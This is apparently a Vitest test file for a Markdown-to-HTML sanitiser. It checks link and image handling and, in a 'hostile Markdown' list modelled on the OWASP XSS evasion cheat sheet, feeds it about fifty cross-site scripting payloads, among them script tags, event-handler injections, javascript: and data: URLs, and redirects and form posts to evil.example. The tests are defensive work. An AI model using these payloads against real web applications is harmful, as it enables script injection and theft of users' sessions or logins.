import { describe, expect, it } from 'vitest';
import { checkMarkdownLimits, markdownLimits } from '~/domain/content/markdown-limits';
import { renderMarkdown } from '~/domain/content/markdown.server';
import { hostileTexts, markdownBombs } from '../../support/fixtures/hostile-texts';
import { findDisallowedTags } from '../../support/find-disallowed-tags';

describe('renderMarkdown', () => {
  it('renders headings from h2, lists, quotes and emphasis', () => {
    expect(renderMarkdown('# One\n\n## Two\n\n### Three\n\n1. a\n2. **b**\n\n> quote\n\n- *c*')).toBe(
      '<h2>One</h2>\n<h2>Two</h2>\n<h3>Three</h3>\n<ol>\n<li>a</li>\n<li><strong>b</strong></li>\n</ol>\n<blockquote>\n<p>quote</p>\n</blockquote>\n<ul>\n<li><em>c</em></li>\n</ul>',
    );
  });

  it('adds nofollow to links to other sites', () => {
    expect(renderMarkdown('[a](/products) [b](https://kebs.org "title") <mailto:a@b.example>')).toBe(
      '<p><a href="/products">a</a> <a rel="noopener nofollow" href="https://kebs.org" title="title">b</a> <a href="mailto:a@b.example">mailto:a@b.example</a></p>',
    );
    expect(renderMarkdown('[a](//elsewhere.example)')).toContain('rel="noopener nofollow"');
  });

  it('gives our images a size, and replaces those of other sites by their text', () => {
    expect(renderMarkdown('![A "cow"](/images/cow.jpg "t")')).toBe(
      '<p><img src="/images/cow.jpg" alt="A &quot;cow&quot;" width="960" height="640" loading="lazy" decoding="async"></p>',
    );
    expect(renderMarkdown('![A <b> cow](https://spy.example/a.gif)')).toBe('<p>A &lt;b&gt; cow</p>');
    expect(renderMarkdown('![A cow](//spy.example/a.gif)')).toBe('<p>A cow</p>');
  });

  it('returns the same HTML for the same text', () => {
    const text = `A text of ${Math.random()}`;
    const again = `${text}`.split('').join('');
    expect(renderMarkdown(again)).toBe(renderMarkdown(text));
    expect(renderMarkdown(`${text}!`)).not.toBe(renderMarkdown(text));
    for (let count = 0; count < 300; count += 1) renderMarkdown(`${text} ${count}`);
    expect(renderMarkdown(text)).toBe(`<p>${text}</p>`);
  });
});

/** After the OWASP XSS filter evasion cheat sheet, as Markdown. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<style>*{display:none}</style>',
  '<form action="https://evil.example"><button>Sign In</button></form>',
  '<!-- comment --><b onclick=alert(1)>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](java\tscript:alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](file:///etc/passwd)',
  '[x](https://evil.example/"onmouseover="alert(1))',
  '[x](https://evil.example \'a" onmouseover="alert(1)\')',
  '[x](/\\evil.example)',
  '[x][y]\n\n[y]: javascript:alert(1) "a"',
  '<javascript:alert(1)>',
  '<https://evil.example/"onmouseover="alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](/a.jpg)',
  '![x](/a.jpg"onerror="alert(1))',
  '![x](/a.jpg \'" onerror="alert(1)\')',
  '![<img src=x onerror=alert(1)>](https://evil.example/)',
  '![[x](javascript:alert(1))](/a.jpg)',
  '```js" onclick="alert(1)\ncode\n```',
  '`<script>`',
  '    <script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '# <h1 onclick=alert(1)>x',
  '> <script>\n> alert(1)\n> </script>',
  '- <img src=x onerror=alert(1)>',
  'text <b\nonclick=alert(1)> text',
  '\u0000<script>\u0000',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '</article></main><script>alert(1)</script>',
  '<a href="x" <script>',
  '<'.repeat(2_000),
  `${'['.repeat(2_000)}x${'](javascript:alert(1))'.repeat(50)}`,
  `${'> '.repeat(200)}<script>`,
  `${'*'.repeat(3_000)}a${'_'.repeat(3_000)}`,
];

describe('hostile Markdown', () => {
  it.each(Object.entries(hostileTexts))('is sanitised: %s', (_name, text) => {
    expect(findDisallowedTags(renderMarkdown(text))).toEqual([]);
    expect(findDisallowedTags(renderMarkdown(`- before\n> ${text}\n\nafter`))).toEqual([]);
  });

  it.each(Object.entries(markdownBombs))('is escaped as plain text beyond the limits: %s', (_name, text) => {
    expect(checkMarkdownLimits(text)).not.toBeNull();
    const html = renderMarkdown(text);
    expect(html.startsWith('<p>')).toBe(true);
    expect(findDisallowedTags(html)).toEqual([]);
  });

  it('is what exceeds any one limit', () => {
    const { maxLength, maxNesting, maxContainers, maxLines, ...signs } = markdownLimits;
    const texts: readonly (readonly [number, (count: number) => string])[] = [
      [maxLength, (count) => 'a'.repeat(count)],
      [maxNesting, (count) => '> '.repeat(count)],
      [maxContainers, (count) => '> - a\n'.repeat(count >> 1) + '> '.repeat(count % 2)],
      [maxLines, (count) => 'a\n'.repeat(count)],
      [signs.maxBrackets, (count) => '['.repeat(count)],
      [signs.maxAngleBrackets, (count) => '<'.repeat(count)],
      [signs.maxDelimiterRuns, (count) => 'a*'.repeat(count)],
    ];
    for (const [limit, textOf] of texts) {
      const limits = [limit, limit + 1].map((count) => checkMarkdownLimits(textOf(count)));
      const expected = [null, limit === maxLength ? 'too-long' : 'too-complex'];
      expect([textOf(3), ...limits]).toEqual([textOf(3), ...expected]);
    }
  });

  it('does not include ordinary posts', () => {
    const text = `## A heading\n\nA **word** and [a link](/shop), \`code\`, *more*.\n\n- a\n  - b\n    - c\n\n> said\n\n${'---'.repeat(20)}\n\n`;
    expect(checkMarkdownLimits(text.repeat(60))).toBeNull();
  });

  it.each(hostile.map((text) => [text.slice(0, 60), text]))('is sanitised: %j', (_name, text) => {
    expect(findDisallowedTags(renderMarkdown(text))).toEqual([]);
    expect(findDisallowedTags(renderMarkdown(`before ${text} after`))).toEqual([]);
  });

  it('is detected by this test', () => {
    for (const html of [
      '<script>',
      '<p onclick="x">',
      '<a href="javascript:alert(1)">',
      '<img src="/a" onerror="x" alt="">',
      '<p>a < b',
      '<h1>',
    ])
      expect([html, findDisallowedTags(html).length]).toEqual([html, 1]);
  });
});
